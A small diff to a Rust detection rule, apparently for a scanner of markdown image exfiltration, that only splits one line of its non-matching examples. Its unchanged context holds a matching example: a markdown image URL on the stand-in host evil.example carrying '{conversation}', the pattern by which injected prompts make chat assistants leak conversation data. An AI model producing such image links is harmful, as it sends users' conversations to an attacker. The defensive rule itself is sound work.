@@ -49,7 +49,8 @@ pub(crate) const RULE: Rule = Rule {
         "![x](https://evil.example/{conversation}/p.png)",
     ],
     misses: &[
-        "![logo](https://a.b/logo.png)", "![badge](https://img.shields.io/badge/x-y?style=flat)",
+        "![logo](https://a.b/logo.png)",
+        "![badge](https://img.shields.io/badge/x-y?style=flat)",
         "![Token](https://img.shields.io/badge/$A-B?style=flat&logo=data:image/png;base64,AA)",
         "![CI](https://ci.example/{owner}/{repo}/badge.svg)",
     ],
